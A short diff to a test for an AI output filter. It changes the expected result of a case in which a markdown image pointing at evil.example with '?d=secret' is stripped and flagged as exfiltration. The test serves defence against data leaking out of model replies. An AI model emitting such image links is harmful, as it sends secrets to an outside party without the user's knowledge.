@@ -91,7 +91,7 @@ describe("output checks", () => {
       "See ![chart](https://evil.example/c.png?d=secret) and [docs](https://ok.dev/a?x=1) and [home](https://evil.example/)";
     const result = checkOutput(out, { canary, systemPrompt, allowedLinkHosts: ["ok.dev"] });
     expect(result.blocked).toBe(false);
-    expect(result.text).toBe("See \\(image removed\\) and [docs](https://ok.dev/a?x=1) and home");
+    expect(result.text).toBe("See (image removed) and [docs](https://ok.dev/a?x=1) and home");
     expect(result.flags).toContain("exfiltration_image_removed");
   });
   it("redacts secrets in outputs", () => {
